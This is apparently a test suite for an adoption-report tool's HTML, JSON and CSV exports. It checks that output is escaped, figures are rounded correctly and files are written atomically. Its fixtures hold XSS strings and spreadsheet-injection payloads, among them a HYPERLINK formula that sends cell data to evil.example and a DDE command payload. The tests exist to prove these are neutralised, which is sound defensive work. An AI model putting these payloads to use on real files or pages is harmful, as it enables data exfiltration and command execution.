import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { call, callTyped } from '../../db/api';
import type { HostContext } from '../../db/api/context';
import { UserError } from '../../db/errors';
import { writeFilesAtomic } from '../../db/fs';
import { toCsv } from '../../db/reports/csv';
import { reportFileName } from '../../db/reports/export';
import { esc, reportHtml } from '../../db/reports/html';
import type { Report } from '../../db/reports/model';
import { PUBLISHED } from '../../db/reports/publish';
import { gapText, percent } from '../../db/reports/shared/format';
import type { ImportKind } from '../../db/signals/model';
import { tempDir, tempEngine } from '../helpers';

/*
 * The report exports on real SQLite workspaces: the demo (every section filled) and a small
 * workspace whose names try to break out of the HTML. The HTML must stand alone (no script, no
 * URL), show every figure rounded, and escape every name; publishing must write both files whole.
 */

let demo: ReturnType<typeof tempEngine>;
let host: HostContext;
let report: Report;
let html: string;
const tmp = tempDir('uptake-exports-');

beforeAll(async () => {
  demo = tempEngine();
  host = { engine: demo.engine };
  await callTyped(host, 'workspace.demo', { seed: 1 });
  report = await callTyped(host, 'reports.get', {});
  html = (await callTyped(host, 'reports.export', { format: 'html' })).content;
});
afterAll(() => {
  demo.cleanup();
  tmp.cleanup();
});

/** Text between two markers of the HTML (a section, a tile). */
function between(text: string, start: string, end: string): string {
  const i = text.indexOf(start);
  if (i < 0) throw new Error(`${start} is not in the HTML`);
  const j = text.indexOf(end, i + start.length);
  return text.slice(i, j < 0 ? undefined : j);
}

const int = (n: number) => n.toLocaleString('en-US');
const pct = (x: number | null, digits = 0) => percent(x, 'en-GB', digits);
/** The gap as shown beside its figures: the difference of the two shown percentages. */
const gap = (r: { formal: number | null; real: number | null }) => gapText(r.formal, r.real, 'en-GB');

describe('the HTML report', () => {
  it('is one self-contained document: no script, no external URL, a CSP that forbids both', () => {
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).toMatch(/<\/html>\n$/);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/\bon[a-z]+\s*=/i); // no event-handler attributes
    expect(html).not.toMatch(/\b(src|href|xlink:href|action)\s*=/i);
    expect(html).not.toMatch(/url\(|@import/i);
    expect(html).not.toMatch(/(https?:)?\/\/[a-z0-9.-]+\.[a-z]{2,}/i);
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
    );
    expect(html.match(/<style>/g)).toHaveLength(1);
    expect(html.match(/<\/style>/g)).toHaveLength(1);
  });

  it('has the title, the slice and when it was generated', () => {
    expect(html).toContain('<h1>Acme Insurance</h1>');
    expect(html).toContain('<dd data-slice="initiative">All initiatives</dd>');
    expect(html).toContain('<dd data-slice="team">All teams</dd>');
    expect(html).toContain(`<dd data-slice="period">May 2026 to Oct 2026</dd>`);
    expect(html).toMatch(/<time datetime="\d{4}-\d\d-\d\dT[\d:.]+Z">\d{1,2} [A-Z][a-z]{2} \d{4}, \d\d:\d\d UTC<\/time>/);
  });

  it('shows every figure rounded for display: tiles, ranking, trend', () => {
    const o = report.overall;
    const tile = (figure: string) => between(html, `data-figure="${figure}"`, '</div></div>');
    expect(tile('formal')).toContain(`>${pct(o.formal)}<`);
    expect(tile('real')).toContain(`>${pct(o.real)}<`);
    expect(tile('gap')).toContain(`>${gap(o)}<`);
    expect(tile('overrideRate')).toContain(`>${pct(o.overrideRate)}<`);
    expect(tile('decisions')).toContain(`>${int(o.decisions)}<`);
    expect(tile('habitualOverriders')).toContain(`>${o.habitualOverriders}<`);
    expect(pct(o.formal)).toMatch(/^\d{1,3}%$/);
    // Every row of the ranking, with its rounded figures, largest gap first.
    const ranking = between(html, '<table class="ranking"', '</table>');
    const rows = [...ranking.matchAll(/<tr data-row="([^"]+)">(.*?)<\/tr>/g)];
    expect(rows).toHaveLength(report.rows.length);
    const byGap = [...report.rows].sort((a, b) => (b.gap ?? -1) - (a.gap ?? -1));
    rows.forEach(([, , cells], i) => {
      const r = byGap[i];
      if (!r) throw new Error('more rows than the report');
      expect(cells).toContain(`>${esc(r.team ?? '')}<`);
      expect(cells).toContain(`data-figure="formal">${pct(r.formal)}<`);
      expect(cells).toContain(`data-figure="real">${pct(r.real)}<`);
      expect(cells).toContain(`data-figure="gap">${gap(r)}<`);
      expect(cells).toContain(`data-figure="overrideRate">${pct(r.overrideRate)}<`);
      expect(cells).toContain(`>${int(r.decisions)}<`);
    });
    // The monthly figures under the trend chart.
    const series = between(html, '<table class="series"', '</table>');
    for (const p of o.series) {
      expect(series).toContain(`>${pct(p.formal)}<`);
      expect(series).toContain(`>${gap(p)}<`);
    }
    // Nothing unrounded leaks out (the JSON export carries those): no number with 3+ decimals.
    const text = html.replace(/<svg[\s\S]*?<\/svg>/g, '').replace(/datetime="[^"]*"/, '');
    expect(text).not.toMatch(/\d\.\d{3,}/);
  });

  it('draws the charts as inline SVG: a dumbbell per row and the monthly trend with a legend and labelled axes', () => {
    const dumbbell = between(html, '<svg class="chart"', '</svg>');
    expect(dumbbell).toContain('data-chart="dumbbell"');
    expect(dumbbell).toContain('Adoption, 0–100%');
    for (const r of report.rows) {
      expect(dumbbell).toContain(`>${esc(r.team ?? '')}<`);
      expect(dumbbell).toContain(`>${pct(r.formal)}<`);
      expect(dumbbell).toContain(`>${pct(r.real)}<`);
    }
    expect(dumbbell.match(/<circle /g)).toHaveLength(report.rows.length * 2);
    const trend = between(html, 'data-chart="trend"', '</svg>');
    expect(trend).toContain('Share, 0–100%');
    expect(trend).toContain('>Month<');
    expect(trend.match(/<polyline /g)?.length).toBe(3);
    expect(between(html, '<section id="trend"', '</section>')).toMatch(/Formal adoption[\s\S]*Real adoption[\s\S]*Override rate/);
  });

  it('lists every alert with its explanation', () => {
    const alerts = between(html, '<section id="alerts"', '</section>');
    for (const r of report.rows) {
      for (const a of r.alerts) {
        expect(alerts).toContain(`data-code="${a.code}"`);
        expect(alerts).toContain(esc(a.message));
      }
    }
    expect(alerts).toContain('Reviews of the overrides tell the two stories apart');
  });

  it('shows each formula with the counts behind it', () => {
    const how = between(html, '<section id="how"', '</section>');
    const c = report.overall.counts;
    expect(how).toContain('Activation = Σ active users / Σ licensed users');
    expect(how).toContain(`Activation = ${int(c.activeUsers)} / ${int(c.licensedUsers)} = ${pct(report.overall.components.activation, 1)}`);
    expect(how).toContain(
      `Override rate = ${int(c.overridden)} / (${int(c.accepted)} + ${int(c.edited)} + ${int(c.overridden)}) = ${pct(report.overall.overrideRate, 1)}`,
    );
    expect(how).toContain('Gap = formal adoption − real adoption');
    expect(how).toContain(`reliance ${report.weights.reliance} · trust ${report.weights.trust} · shadow-free ${report.weights.shadowFree}`);
    // The counts behind every row and the whole slice.
    for (const r of [...report.rows, report.overall]) expect(how).toContain(`>${int(r.counts.licensedUsers)}<`);
    expect(how).toContain('>Whole slice<');
  });

  it('prints on A4 with page numbers and breaks before the trend', () => {
    expect(html).toMatch(/@page \{ size: A4;/);
    expect(html).toContain('counter(page)');
    expect(html).toContain('<section id="trend" class="page-break">');
    expect(html).toMatch(/\.page-break \{ break-before: page;/);
  });

  it('says "no data" for an empty slice instead of drawing charts', async () => {
    const empty = await callTyped(host, 'reports.export', { format: 'html', from: '2020-01', to: '2020-02' });
    expect(empty.content).toContain('No data for this slice');
    expect(empty.content).not.toContain('data-chart="dumbbell"');
    expect(empty.content).toContain('<dd data-slice="period">Jan 2020 to Feb 2020</dd>');
    expect(empty.content).toContain('No alerts for this slice.');
    expect(empty.fileName).toBe('uptake-report-acme-insurance-2020-01-to-2020-02.html');
  });
});

describe('names that look like markup', () => {
  const evilTeam = '<script>alert(1)</script> & "Co"';
  const evilInitiative = `Fish & 'Chips' <img src=x onerror=alert(2)>`;
  const evilWorkspace = 'Acme </style><script>alert(3)</script> "Ltd" \\ end';
  let evilHtml = '';

  beforeAll(async () => {
    const t = tempEngine();
    const h: HostContext = { engine: t.engine };
    try {
      await callTyped(h, 'workspace.init', { workspace: evilWorkspace, me: 'Dana Lee' });
      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
      const usage = path.join(t.dir, 'usage.csv');
      fs.writeFileSync(
        usage,
        `month,team,initiative,licensed_users,active_users,workflows_started,workflows_completed\n2026-01,${quote(evilTeam)},${quote(evilInitiative)},10,8,100,90\n`,
      );
      await callTyped(h, 'imports.run', { kind: 'usage', path: usage, createMissing: true });
      evilHtml = (await callTyped(h, 'reports.export', { format: 'html' })).content;
    } finally {
      t.cleanup();
    }
  });

  it('are escaped everywhere: text, attributes, SVG and the print footer', () => {
    expect(evilHtml).not.toMatch(/<script/i);
    expect(evilHtml).not.toMatch(/<img/i);
    expect(evilHtml.match(/<\/style>/g)).toHaveLength(1);
    expect(evilHtml).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Co&quot;');
    expect(evilHtml).toContain('Fish &amp; &#39;Chips&#39; &lt;img src=x onerror=alert(2)&gt;');
    expect(evilHtml).toContain('<h1>Acme &lt;/style&gt;&lt;script&gt;alert(3)&lt;/script&gt; &quot;Ltd&quot; \\ end</h1>');
    // Inside the SVG too (its <title> and labels), and in attribute values.
    expect(between(evilHtml, 'data-chart="dumbbell"', '</svg>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(evilHtml).toMatch(/data-row="Fish &amp; &#39;Chips&#39; &lt;img src=x onerror=alert\(2\)&gt; · &lt;script&gt;/);
    // The @page footer is a CSS string: quotes, backslashes and angle brackets are CSS escapes.
    const footer = between(evilHtml, '@bottom-left { content: ', ';');
    expect(footer).toContain('\\3C /style\\3E ');
    expect(footer).toContain('\\22 Ltd\\22 ');
    expect(footer).toContain('\\5C  end');
    expect(footer).not.toMatch(/[<>]/);
  });

  it('give a file name of letters, digits and dashes', () => {
    const fake = { workspace: evilWorkspace, slice: { initiative: evilInitiative, team: evilTeam, from: '2026-01', to: '2026-01' } };
    expect(reportFileName(fake as Report, 'pdf')).toBe(
      'uptake-report-acme-style-script-alert-3-script-ltd-end-fish-chips-img-src-x-onerror-alert-2-script-alert-1-script-co-2026-01.pdf',
    );
  });
});

describe('publishing to a shared folder', () => {
  it('writes uptake-report.html and uptake-report.json, the JSON equal to `report --format json`, and remembers the folder', async () => {
    const folder = path.join(tmp.dir, 'share');
    fs.mkdirSync(folder);
    expect(await callTyped(host, 'reports.publishTarget', {})).toEqual({ folder: null });
    await expect(call(host, 'reports.publish', {})).rejects.toThrow(/no shared folder chosen yet/);

    const result = await callTyped(host, 'reports.publish', { folder });
    expect(result.folder).toBe(folder);
    expect(result.files.map((f) => f.name)).toEqual([PUBLISHED.html, PUBLISHED.json]);
    expect(fs.readdirSync(folder).sort()).toEqual([PUBLISHED.html, PUBLISHED.json]);
    for (const f of result.files) expect(fs.statSync(f.path).size).toBe(f.bytes);

    const published = JSON.parse(fs.readFileSync(path.join(folder, PUBLISHED.json), 'utf8'));
    const exported = JSON.parse((await callTyped(host, 'reports.export', { format: 'json' })).content);
    expect(published.generatedAt).toBe(result.generatedAt);
    expect({ ...published, generatedAt: null }).toEqual({ ...exported, generatedAt: null });
    // One report behind both files.
    expect(fs.readFileSync(path.join(folder, PUBLISHED.html), 'utf8')).toContain(`<time datetime="${result.generatedAt}">`);

    expect(await callTyped(host, 'reports.publishTarget', {})).toEqual({ folder });
    fs.writeFileSync(path.join(folder, PUBLISHED.html), 'old');
    const again = await callTyped(host, 'reports.publish', { team: 'Claims North' });
    expect(again.folder).toBe(folder);
    expect(fs.readFileSync(path.join(folder, PUBLISHED.html), 'utf8')).toContain(
      '<dd data-slice="team">Claims North (with its sub-teams)</dd>',
    );
  });

  it('says which folder is wrong and what to do, writes nothing and keeps the remembered folder', async () => {
    const remembered = (await callTyped(host, 'reports.publishTarget', {})).folder;
    const missing = path.join(tmp.dir, 'not-mounted', 'uptake');
    const file = path.join(tmp.dir, 'a-file.txt');
    fs.writeFileSync(file, 'x');
    const cases: [string, RegExp][] = [
      [
        missing,
        new RegExp(`The folder ${missing.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} does not exist\\. Check the path.*create the folder`),
      ],
      [file, /a-file\.txt is a file, not a folder/],
      ['relative/share', /"relative\/share" is a relative path\. Give the full path/],
    ];
    for (const [folder, message] of cases) {
      const error = await call(host, 'reports.publish', { folder }).catch((e: unknown) => e);
      expect(error, folder).toBeInstanceOf(UserError);
      expect((error as UserError).code).toBe('BAD_INPUT');
      expect((error as Error).message).toMatch(message);
    }
    expect(fs.existsSync(missing)).toBe(false);
    expect(fs.readFileSync(file, 'utf8')).toBe('x');
    expect((await callTyped(host, 'reports.publishTarget', {})).folder).toBe(remembered);
  });

  it.skipIf(process.getuid?.() === 0)('refuses a folder it may not write in (skipped as root, who may write anywhere)', async () => {
    const locked = path.join(tmp.dir, 'locked');
    fs.mkdirSync(locked, { mode: 0o555 });
    await expect(call(host, 'reports.publish', { folder: locked })).rejects.toThrow(
      /may not write .* \(permission denied\)\. Choose a folder/,
    );
    expect(fs.readdirSync(locked)).toEqual([]);
  });

  it('writes each file to a temp file in the same folder, fsyncs it, then renames it into place', async () => {
    const folder = path.join(tmp.dir, 'atomic');
    fs.mkdirSync(folder);
    const renames = vi.spyOn(fs, 'renameSync');
    const fsyncs = vi.spyOn(fs, 'fsyncSync');
    try {
      await callTyped(host, 'reports.publish', { folder });
      const moved = renames.mock.calls.map(([from, to]): [string, string] => [String(from), String(to)]);
      expect(moved.map(([, to]) => path.basename(to))).toEqual([PUBLISHED.html, PUBLISHED.json]);
      for (const [from, to] of moved) {
        expect(path.dirname(from)).toBe(folder);
        expect(path.basename(from)).toMatch(new RegExp(`^\\.${path.basename(to).replace('.', '\\.')}\\.\\d+-[0-9a-f]{8}\\.tmp$`));
      }
      expect(fsyncs.mock.calls.length).toBeGreaterThanOrEqual(2);
    } finally {
      renames.mockRestore();
      fsyncs.mockRestore();
    }
    expect(fs.readdirSync(folder).sort()).toEqual([PUBLISHED.html, PUBLISHED.json]);
  });

  it('never leaves a half file: when any file cannot be written, the old ones stay and no temp file is left', () => {
    const folder = path.join(tmp.dir, 'half');
    fs.mkdirSync(folder);
    fs.writeFileSync(path.join(folder, 'a.html'), 'old html');
    expect(() =>
      writeFilesAtomic([
        { path: path.join(folder, 'a.html'), data: 'new html' },
        { path: path.join(folder, 'gone', 'b.json'), data: '{}' },
      ]),
    ).toThrow(/does not exist/);
    expect(fs.readdirSync(folder)).toEqual(['a.html']);
    expect(fs.readFileSync(path.join(folder, 'a.html'), 'utf8')).toBe('old html');
  });

  it('a target that is a folder is refused before any file is written, naming it, with no temp file left', async () => {
    const folder = path.join(tmp.dir, 'folder-target');
    fs.mkdirSync(path.join(folder, 'uptake-report.json'), { recursive: true });
    const target = path.join(folder, 'uptake-report.json');
    await expect(callTyped(host, 'reports.publish', { folder })).rejects.toThrow(
      new UserError('BAD_INPUT', `${target} is a folder: give a file name (a file in it, or elsewhere).`),
    );
    expect(fs.readdirSync(folder)).toEqual(['uptake-report.json']);
    expect(fs.readdirSync(target)).toEqual([]);
  });

  it('sponsors may export and publish', async () => {
    const folder = path.join(tmp.dir, 'sponsor');
    fs.mkdirSync(folder);
    const sponsor: HostContext = { engine: demo.engine, actAs: 'Priya Shah' };
    expect((await callTyped(sponsor, 'reports.export', { format: 'csv' })).content).toMatch(/^initiative,team,formal/);
    expect((await callTyped(sponsor, 'reports.publish', { folder })).files).toHaveLength(2);
  });
});

describe('reportHtml directly', () => {
  it('shows "no data" for a figure without inputs, never 0', () => {
    const r = structuredClone(report);
    r.overall.components.trust = null;
    r.overall.real = null;
    r.overall.gap = null;
    const page = reportHtml(r);
    expect(between(page, 'data-figure="real"', '</div></div>')).toContain('>No data<');
    expect(between(page, 'data-figure="gap"', '</div></div>')).toContain('>No data<');
  });
});

describe('exported figures against a hand computation', () => {
  /*
   * A workspace small enough to compute by hand; the expected figures below are that computation,
   * not the engine's output, so a wrong formula fails here.
   *
   * North, Triage: usage 2026-01 10 licensed, 8 active, 100 started, 90 completed; 2026-02 10, 9, 120, 96.
   *   decisions (2026-01): 4 accepted, 1 edited, 4 overridden, 1 ignored. pulse: 2026-01 10
   *   respondents, trust 3, 2 keep a backup; 2026-02 10, 4, 4.
   *   activation 17/20, completion 186/220, formal (17/20 + 186/220)/2 = 373/440 ≈ 0.8477
   *   reliance 5/10, trust ((3·10 + 4·10)/20 − 1)/4 = 0.625, shadowFree 1 − 6/20 = 0.7
   *   real 0.5·0.5 + 0.25·0.625 + 0.25·0.7 = 0.58125 = 93/160; gap 373/440 − 93/160 = 469/1760 ≈ 0.2665
   *   overrideRate 4/9, ignoreRate 1/10
   * South, Triage: usage 2026-01 20, 10, 50, 25; decisions 3 accepted, 1 overridden; no pulse; a
   *   register process with 5 users, active since 2025-12-01.
   *   formal (10/20 + 25/50)/2 = 0.5; reliance 3/4; trust none; shadowFree 1 − 5/10 = 0.5 (register)
   *   real (0.5·0.75 + 0.25·0.5)/(0.5 + 0.25) = 2/3; gap 0.5 − 2/3 = −1/6; overrideRate 1/4
   * Whole slice: activation 27/40, completion 211/270, formal 1573/2160 ≈ 0.7282
   *   reliance 8/14, trust 0.625, shadowFree 1 − 6/20 = 0.7 (the slice has pulse rows, so the pulse
   *   decides, not the register); real 0.5·4/7 + 0.15625 + 0.175 = 691/1120 ≈ 0.6170
   *   gap 1573/2160 − 691/1120 = 3365/30240 ≈ 0.1113; overrideRate 5/13; 14 decisions
   */
  let json: { overall: Record<string, unknown>; rows: Record<string, unknown>[] };
  let csv: string[][];
  let page: string;

  beforeAll(async () => {
    const t = tempEngine();
    const h: HostContext = { engine: t.engine };
    try {
      await callTyped(h, 'workspace.init', { workspace: 'Hand', me: 'Dana Lee' });
      const file = (name: string, text: string) => {
        const p = path.join(t.dir, name);
        fs.writeFileSync(p, text);
        return p;
      };
      const imports: [ImportKind, string, string][] = [
        [
          'usage',
          'usage.csv',
          'month,team,initiative,licensed_users,active_users,workflows_started,workflows_completed\n2026-01,North,Triage,10,8,100,90\n2026-02,North,Triage,10,9,120,96\n2026-01,South,Triage,20,10,50,25\n',
        ],
        [
          'decisions',
          'decisions.csv',
          [
            'timestamp,initiative,team,user,recommendation_id,action,reason',
            ...[
              'accepted',
              'accepted',
              'accepted',
              'accepted',
              'edited',
              'overridden',
              'overridden',
              'overridden',
              'overridden',
              'ignored',
            ].map((action, i) => `2026-01-1${i % 9}T10:00:00Z,Triage,North,u${i % 3},n${i},${action},`),
            ...['accepted', 'accepted', 'accepted', 'overridden'].map(
              (action, i) => `2026-01-20T10:00:00Z,Triage,South,s${i},s${i},${action},`,
            ),
          ].join('\n'),
        ],
        [
          'pulse',
          'pulse.csv',
          'month,team,initiative,respondents,trust_mean,manual_backup\n2026-01,North,Triage,10,3,2\n2026-02,North,Triage,10,4,4\n',
        ],
        [
          'shadow-processes',
          'register.csv',
          'name,team,initiative,kind,owner,users_involved,reason,failure_pattern,first_seen,retired_on\nSecond look,South,Triage,manual double-check,,5,,,2025-12-01,\n',
        ],
      ];
      for (const [kind, name, text] of imports) await callTyped(h, 'imports.run', { kind, path: file(name, text), createMissing: true });
      json = JSON.parse((await callTyped(h, 'reports.export', { format: 'json' })).content);
      csv = (await callTyped(h, 'reports.export', { format: 'csv' })).content
        .trim()
        .split('\r\n')
        .map((line) => line.split(','));
      page = (await callTyped(h, 'reports.export', { format: 'html' })).content;
    } finally {
      t.cleanup();
    }
  });

  it('JSON: the figures of each row and of the whole slice', () => {
    const north = json.rows.find((r) => r.team === 'North');
    const south = json.rows.find((r) => r.team === 'South');
    const close = (actual: unknown, expected: number) => expect(actual as number).toBeCloseTo(expected, 12);
    close(north?.formal, 373 / 440);
    close(north?.real, 93 / 160);
    close(north?.gap, 469 / 1760);
    close(north?.overrideRate, 4 / 9);
    close(north?.ignoreRate, 1 / 10);
    expect(north?.components).toEqual({
      activation: 0.85,
      completion: expect.closeTo(186 / 220, 12),
      reliance: 0.5,
      trust: 0.625,
      shadowFree: 0.7,
    });
    close(south?.formal, 0.5);
    close(south?.real, 2 / 3);
    close(south?.gap, -1 / 6);
    close(south?.overrideRate, 1 / 4);
    expect(south?.components).toMatchObject({ reliance: 0.75, trust: null, shadowFree: 0.5 });
    close(json.overall.formal, 1573 / 2160);
    close(json.overall.real, 691 / 1120);
    close(json.overall.gap, 3365 / 30240);
    close(json.overall.overrideRate, 5 / 13);
    expect(json.overall.decisions).toBe(14);
  });

  it('CSV: the same unrounded figures', () => {
    const [header = [], ...lines] = csv;
    const cell = (team: string, column: string) => Number(lines.find((l) => l[1] === team || l[0] === team)?.[header.indexOf(column)]);
    expect(cell('North', 'formal')).toBeCloseTo(373 / 440, 12);
    expect(cell('North', 'real')).toBeCloseTo(93 / 160, 12);
    expect(cell('South', 'gap')).toBeCloseTo(-1 / 6, 12);
    expect(cell('(overall)', 'real')).toBeCloseTo(691 / 1120, 12);
    expect(cell('(overall)', 'decisions')).toBe(14);
  });

  it('HTML: the same figures rounded for display', () => {
    const tile = (figure: string) => between(page, `data-figure="${figure}"`, '</div></div>');
    expect(tile('formal')).toContain('>73%<');
    expect(tile('real')).toContain('>62%<');
    expect(tile('gap')).toContain('>+11 pts<');
    expect(tile('overrideRate')).toContain('>38%<');
    expect(tile('decisions')).toContain('>14<');
    const north = between(page, '<tr data-row="Triage · North">', '</tr>');
    expect(north).toContain('data-figure="formal">85%<');
    expect(north).toContain('data-figure="real">58%<');
    expect(north).toContain('data-figure="gap">+27 pts<');
    expect(north).toContain('data-figure="overrideRate">44%<');
  });

  it('HTML: a figure resting on some of its components is marked "2 of 3", and the thin month is named and hatched', () => {
    // South has no pulse: real adoption rests on reliance and shadow-free, 2 of its 3 components.
    const south = between(page, '<tr data-row="Triage · South">', '</tr>');
    expect(south).toContain(
      'data-figure="real">67%<span class="partial" data-partial="real" title="Rests on 2 of 3 components: no data for trust.">2 of 3</span>',
    );
    // North has every component: no mark.
    expect(between(page, '<tr data-row="Triage · North">', '</tr>')).not.toContain('class="partial"');
    // January has 4 + 1 + 4 + 1 + 3 + 1 = 14 decisions, below the default 30: thin, counted, named under the tiles.
    expect(page).toContain(
      '<p class="thin-note" data-thin-months>Includes a thin month, counted in every figure but with little data behind it: Jan 2026: 14 decisions.</p>',
    );
    const trend = between(page, '<section id="trend"', '</section>');
    expect(trend).toContain('<rect data-thin="2026-01"');
    expect(trend).not.toContain('data-thin="2026-02"');
    expect(trend).toContain('Thin month');
    expect(trend).toContain('Jan 2026<span class="thin-tag">thin month</span>');
    // Default weights: said so, and no "custom weights" anywhere.
    expect(page).toContain('<dd data-slice="weights">Default weights: reliance 0.5 · trust 0.25 · shadow-free 0.25</dd>');
    expect(page).not.toMatch(/custom weights/i);
  });
});

describe('the HTML report in the reader’s locale, with custom weights', () => {
  it('writes numbers and dates the de-DE way and says "custom weights"', async () => {
    const t = tempEngine();
    const h: HostContext = { engine: t.engine };
    try {
      await callTyped(h, 'workspace.demo', { seed: 1 });
      const settings = await callTyped(h, 'metrics.settings', {});
      await callTyped(h, 'metrics.configure', { ...settings, weights: { reliance: 0.6, trust: 0.2, shadowFree: 0.2 } });
      const r = await callTyped(h, 'reports.get', {});
      const de = (await callTyped(h, 'reports.export', { format: 'html', locale: 'de-DE' })).content;
      const json = JSON.parse((await callTyped(h, 'reports.export', { format: 'json' })).content) as { customWeights: boolean };
      expect(json.customWeights).toBe(true);
      expect(de).toContain('<dd data-slice="weights">Custom weights: reliance 0,6 · trust 0,2 · shadow-free 0,2</dd>');
      expect(de).toContain('real adoption uses custom weights');
      // The demo has more than a thousand decisions: de-DE groups them with a full stop.
      expect(r.overall.decisions).toBeGreaterThan(999);
      const grouped = `${Math.floor(r.overall.decisions / 1000)}.${String(r.overall.decisions % 1000).padStart(3, '0')}`;
      expect(between(de, 'data-figure="decisions"', '</div></div>')).toContain(`>${grouped}<`);
      // Percentages with a space before the sign, months and the generated date in German.
      expect(between(de, 'data-figure="formal"', '</div></div>')).toMatch(/>\d{1,3}\u00a0%</);
      expect(de).toContain('<dd data-slice="period">Mai 2026 to Okt. 2026</dd>');
      expect(de).toMatch(/<time datetime="[^"]+">\d{1,2}\. [A-Z][a-zä]{2,3}\.? \d{4}, \d\d:\d\d UTC<\/time>/);
      // A locale that is not one is refused with a message saying what to give instead.
      await expect(callTyped(h, 'reports.export', { format: 'html', locale: 'klingon-xx' })).rejects.toThrow(/not a locale.*en-GB/);
    } finally {
      t.cleanup();
    }
  });
});

/*
 * Spreadsheet formula injection: names come from imported files and the CSV is opened in Excel.
 * Every text cell that starts like a formula is written with a leading apostrophe (quoted), so
 * the spreadsheet shows it as text; numbers are written as they are.
 */
const PAYLOADS = [
  ['=HYPERLINK', '=HYPERLINK("http://evil.example/?d="&A1,"Open")'],
  ['+cmd', "+cmd|' /C calc'!A0"],
  ['@SUM', '@SUM(1)'],
  ['-2+3', '-2+3'],
  ['tab', '\t=1+2'],
  ['carriage return', '\r=1+2'],
  ['a formula with a line break in it', '=1+2\nsecond line'],
  ['a full-width equals sign', '\uFF1D1+2'],
] as const;

describe('the CSV writer neutralises formulas', () => {
  it.each(PAYLOADS)('%s: the cell reads back as the text with an apostrophe before it', (_name, payload) => {
    const text = toCsv(['name', 'value'], [[payload, 1]]);
    const [header, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(header).toEqual(['name', 'value']);
    expect(row).toEqual([`'${payload}`, '1']);
    expect(text.split('\r\n')[1]?.startsWith(`"'`)).toBe(true);
  });

  it('leaves numbers (negative ones too), empty cells and ordinary text as they are', () => {
    const text = toCsv(['a', 'b', 'c', 'd', 'e'], [[-0.25, 0, null, 'Claims North', 'Fish, "Chips"']]);
    expect(text).toBe('a,b,c,d,e\r\n-0.25,0,,Claims North,"Fish, ""Chips"""\r\n');
  });
});

describe('the report CSV with names that look like formulas', () => {
  const names = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3'];
  let rows: string[][] = [];
  let figures: Report | null = null;

  beforeAll(async () => {
    const t = tempEngine();
    const h: HostContext = { engine: t.engine };
    try {
      await callTyped(h, 'workspace.init', { workspace: 'Acme', me: 'Dana Lee' });
      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
      const usage = path.join(t.dir, 'usage.csv');
      const lines = names.map((team, i) => `2026-01,${quote(team)},${quote(names[(i + 1) % names.length] ?? '')},10,8,100,90`);
      fs.writeFileSync(
        usage,
        `month,team,initiative,licensed_users,active_users,workflows_started,workflows_completed\n${lines.join('\n')}\n`,
      );
      await callTyped(h, 'imports.run', { kind: 'usage', path: usage, createMissing: true });
      const csv = (await callTyped(h, 'reports.export', { format: 'csv' })).content;
      rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
      figures = await callTyped(h, 'reports.get', {});
    } finally {
      t.cleanup();
    }
  });

  it.each(names)('%s goes out as text, in the team and the initiative columns', (name) => {
    const [header, ...body] = rows;
    const team = header?.indexOf('team') ?? -1;
    const initiative = header?.indexOf('initiative') ?? -1;
    expect(body.map((r) => r[team])).toContain(`'${name}`);
    expect(body.map((r) => r[initiative])).toContain(`'${name}`);
    for (const r of body) for (const cell of r) expect(cell).not.toMatch(/^[=+@]/);
  });

  it('writes the figures as the numbers the report has', () => {
    const [header, ...body] = rows;
    const at = (column: string) => header?.indexOf(column) ?? -1;
    expect(body).toHaveLength((figures?.rows.length ?? 0) + 1);
    for (const r of figures?.rows ?? []) {
      const line = body.find((b) => b[at('team')] === `'${r.team}` && b[at('initiative')] === `'${r.initiative}`);
      expect(line?.[at('formal')]).toBe(String(r.formal));
      expect(line?.[at('gap')]).toBe(r.gap === null ? '' : String(r.gap));
      expect(line?.[at('decisions')]).toBe(String(r.decisions));
    }
  });
});
